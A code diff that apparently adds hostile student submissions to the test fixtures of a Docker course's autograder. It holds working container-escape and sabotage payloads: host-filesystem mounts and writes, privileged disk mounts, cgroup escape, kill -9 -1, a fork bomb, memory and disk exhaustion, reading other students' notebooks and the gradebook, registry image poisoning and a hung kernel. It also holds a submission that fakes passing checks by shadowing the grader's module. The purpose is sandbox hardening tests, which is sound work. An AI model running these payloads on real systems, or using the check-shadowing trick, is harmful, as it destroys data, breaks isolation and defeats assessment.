@@ -126,5 +126,176 @@ def main(release: Path) -> None:
     save(fill(release, "lab3", sol["lab3"]), "grace", "lab-3", "lab3.ipynb")
 
 
+# -- hostile submissions (tests/host/test_grading_hostile.py): an honest lab 1 plus an attack -------
+HOSTILE = Path(__file__).resolve().parent / "hostile"
+PRELUDE = (
+    "import glob, os, pathlib, socket, subprocess, sys, time\n"
+    "import labs.grading\n"
+    "REPO = pathlib.Path(labs.grading.__file__).resolve().parents[2]\n"
+    "def sh(*argv, timeout=120):\n"
+    "    try:\n"
+    "        r = subprocess.run(list(argv), capture_output=True, text=True, timeout=timeout)\n"
+    "        return r.returncode, (r.stdout + r.stderr)[-400:]\n"
+    "    except Exception as e:\n"
+    "        return -1, str(e)\n"
+    "print('uid', os.getuid(), 'cgroup', open('/proc/self/cgroup').read().split())\n"
+)
+
+ATTACKS = {
+    # -v /:/host, --privileged + the host's disk, the kernel itself, the grader's own code
+    "h-hostfs": PRELUDE + (
+        "M = 'PWNED-hostfs'\n"
+        "wrote = []\n"
+        "for d in ['/root', '/etc', '/', str(REPO), str(REPO / 'labs' / 'grading')]:\n"
+        "    try:\n"
+        "        pathlib.Path(d, M).write_text('x'); wrote.append(d)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "try:\n"
+        "    with open(REPO / 'labs' / 'grading' / 'tasks.py', 'a') as f:\n"
+        "        f.write('\\n# pwned\\n'); wrote.append('tasks.py')\n"
+        "except OSError:\n"
+        "    pass\n"
+        "print('WROTE', wrote)\n"
+        "print(sh('docker', 'run', '--rm', '-v', '/:/host', 'busybox:1.35', 'sh', '-c',\n"
+        "         f'echo x > /host/root/{M}; echo x > /host/etc/{M}; echo x >> /host{REPO}/labs/grading/tasks.py; '\n"
+        "         f'touch /host{REPO}/labs/grading/{M}.py; id'))\n"
+        "print(sh('docker', 'run', '--rm', '--privileged', 'busybox:1.35', 'sh', '-c',\n"
+        "         f'for d in /dev/vd? /dev/sd? /dev/xvd? /dev/nvme?n1; do mkdir -p /m && mount $d /m && '\n"
+        "         f'echo x > /m/{M} && echo mounted $d; done; true'))\n"
+        "print('ATTACK-RAN')\n"),
+    # every loopback port of the host, --net=host, a push over the course's busybox:1.35, 0.0.0.0:8082
+    "h-net": PRELUDE + (
+        "from labctl.state import load_state\n"
+        "reached = []\n"
+        "for port in range(5000, 5201):\n"
+        "    for host in ('127.0.0.1', '10.0.2.2'):\n"
+        "        s = socket.socket(); s.settimeout(0.3)\n"
+        "        try:\n"
+        "            s.connect((host, port)); reached.append(f'{host}:{port}')\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "        finally:\n"
+        "            s.close()\n"
+        "print('KERNEL-REACHED', reached)\n"
+        "print(sh('docker', 'run', '--rm', '--net=host', 'busybox:1.35', 'sh', '-c',\n"
+        "         'for p in $(seq 5000 5200); do for h in 127.0.0.1 10.0.2.2; do '\n"
+        "         'wget -q -T 1 -O /dev/null http://$h:$p/ 2>/dev/null && echo reached $h:$p; done; done; true'))\n"
+        "mirror = load_state().mirror\n"
+        "for target in [f'{mirror}/library/busybox:1.35', 'busybox:1.35', '127.0.0.1:5100/library/busybox:1.35',\n"
+        "               '127.0.0.1:5110/library/busybox:1.35', '127.0.0.1:5000/library/busybox:1.35']:\n"
+        "    sh('docker', 'tag', 'nginx:1.22', target)\n"
+        "    print('push', target, sh('docker', 'push', target, timeout=60)[0])\n"
+        "print(sh('docker', 'run', '-d', '-p', '0.0.0.0:8082:80', '--name', 'squat', 'nginx:1.22'))\n"
+        "squat = socket.socket(); squat.bind(('0.0.0.0', 8083)); squat.listen()\n"
+        "print('ATTACK-RAN')\n"),
+    # --cgroup-parent, the kernel's own pid into every cgroup it can find, --stop-timeout 100000
+    "h-cgroup": PRELUDE + (
+        "print(sh('docker', 'run', '-d', '--cgroup-parent=/escape', 'busybox:1.35', 'sleep', '100000'))\n"
+        "print(sh('docker', 'run', '-d', '--stop-timeout', '100000', 'busybox:1.35', 'sleep', '100000'))\n"
+        "p = subprocess.Popen(['bash', '-c', 'exec -a dockerlab-escapee sleep 100000'])\n"
+        "moved = []\n"
+        "for f in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True):\n"
+        "    try:\n"
+        "        pathlib.Path(f).write_text(str(p.pid)); moved.append(f)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "print('MOVED', moved)\n"
+        "print('NOW', open(f'/proc/{p.pid}/cgroup').read().split())\n"
+        "print('ATTACK-RAN')\n"),
+    # --pid=host: see the grader, kill everything
+    "h-pidhost": PRELUDE + (
+        "print('ATTACK-RAN', flush=True)\n"
+        "print(sh('docker', 'run', '--rm', '--pid=host', 'busybox:1.35', 'sh', '-c',\n"
+        "         'ps -o pid,user,args | grep -c labs.grading; kill -9 -1; sleep 5'))\n"),
+    # fork bombs (container and kernel), memory hogs, filling the disk
+    "h-resources": PRELUDE + (
+        "print('ATTACK-RAN', flush=True)\n"
+        "print(sh('docker', 'run', '-d', '--name', 'bomb', 'busybox:1.35', 'sh', '-c', 'f() { f | f & }; f; sleep 600'))\n"
+        "time.sleep(5)\n"
+        "print(sh('docker', 'run', '--rm', 'busybox:1.35', 'sh', '-c', 'tail /dev/zero'), flush=True)\n"
+        "print(sh('dd', 'if=/dev/zero', f'of={os.environ[\"HOME\"]}/fill', 'bs=1M', 'count=3000'), flush=True)\n"
+        "hog = []\n"
+        "try:\n"
+        "    while True:\n"
+        "        hog.append(bytearray(64 << 20))\n"
+        "except MemoryError:\n"
+        "    print('MemoryError at', len(hog) * 64, 'MB')\n"),
+    # the hidden tests, other learners' notebooks, the gradebook, the grader's files
+    "h-snoop": PRELUDE + (
+        "me = os.environ['HOME']\n"
+        "targets = [REPO / 'labs/source/lab1/lab1.ipynb', REPO / 'tests/labs_submissions/submitted/alice/lab1/lab1.ipynb',\n"
+        "           REPO / '.git/HEAD', REPO / '.lab/state.json', '/root/.bashrc', '/run/dockerlab-grade',\n"
+        "           '/var/lib/dockerlab/.cache/dockerlab/engine/current.json']\n"
+        "targets += [p for p in glob.glob('/var/lib/dockerlab-grade/*/u/course/**/*.ipynb', recursive=True)\n"
+        "            if not p.startswith(me)]\n"
+        "targets += glob.glob('/tmp/pytest-of-root/**/gradebook.db', recursive=True)\n"
+        "targets += glob.glob('/tmp/**/submitted/**/*.ipynb', recursive=True)\n"
+        "leaked = []\n"
+        "for t in targets:\n"
+        "    try:\n"
+        "        p = pathlib.Path(t); (p.read_bytes() if p.is_file() else list(p.iterdir())); leaked.append(str(t))\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "rc, out = sh('docker', 'run', '--rm', '-v', '/:/host', 'busybox:1.35', 'sh', '-c',\n"
+        "             f'cat /host{REPO}/labs/source/lab1/lab1.ipynb /host{REPO}/tests/labs_submissions/submitted/alice/lab1/lab1.ipynb | head -c 100')\n"
+        "if rc == 0 and out.strip():\n"
+        "    leaked.append('container:' + out[:40])\n"
+        "print('LEAKED', leaked)\n"
+        "print('PROBE', pathlib.Path('lab1.ipynb').read_bytes()[:1] == b'{')\n"
+        "print('ATTACK-RAN')\n"),
+    # a kernel that never returns (SIGINT ignored, so the cell timeout cannot interrupt it)
+    "h-hang": PRELUDE + (
+        "import signal\n"
+        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+        "print('ATTACK-RAN', flush=True)\n"
+        "while True:\n"
+        "    pass\n"),
+}
+
+# wrong answers, and every way to make the kernel say ✔: the check module shadowed from the working
+# directory, independently/self_check rebound, the check service's address dropped
+SHADOW = (
+    "import os, pathlib, sys\n"
+    "pkg = pathlib.Path('labs/grading'); pkg.mkdir(parents=True, exist_ok=True)\n"
+    "pathlib.Path('labs/__init__.py').write_text('')\n"
+    "(pkg / '__init__.py').write_text('')\n"
+    "(pkg / 'checks.py').write_text('print(\"\\u2714 ok\")\\n')\n"
+    "sys.path.insert(0, os.getcwd())\n"
+    "os.environ.pop('DOCKERLAB_CHECKD', None)\n"
+    "from labs.grading.checks import Verdict\n"
+    "independently = lambda *a, **k: Verdict(True, 'ok')\n"
+    "self_check = lambda *a, **k: Verdict(True, 'ok')\n"
+    "PINNED = 'busybox:1.35'\n"
+)
+
+
+def hostile(release: Path) -> None:
+    sol = solutions("lab1")
+    for student, attack in ATTACKS.items():
+        nb = fill(release, "lab1", sol)
+        nb.cells.append(nbformat.v4.new_code_cell(attack))  # after the last test: the honest part counts
+        d = HOSTILE / student / "lab1"
+        d.mkdir(parents=True, exist_ok=True)
+        nbformat.write(nb, d / "lab1.ipynb")
+    nb = fill(release, "lab1", {
+        "task1-answer": SHADOW,
+        "task2-answer": 'NGINX_LAYERS, NGINX_SIZE_MB = 99, 1.0',
+        "task3-answer": 'SHARED = ["sha256:' + "0" * 64 + '"]',
+    })
+    d = HOSTILE / "h-shadow" / "lab1"
+    d.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, d / "lab1.ipynb")
+    for lab in ("lab1", "lab3"):  # honest neighbours
+        d = HOSTILE / "alice" / lab
+        d.mkdir(parents=True, exist_ok=True)
+        nbformat.write(fill(release, lab, sol_for(lab)), d / f"{lab}.ipynb")
+
+
+def sol_for(lab: str) -> dict[str, str]:
+    return solutions(lab)
+
+
 if __name__ == "__main__":
     main(Path(sys.argv[1]))
+    hostile(Path(sys.argv[1]))
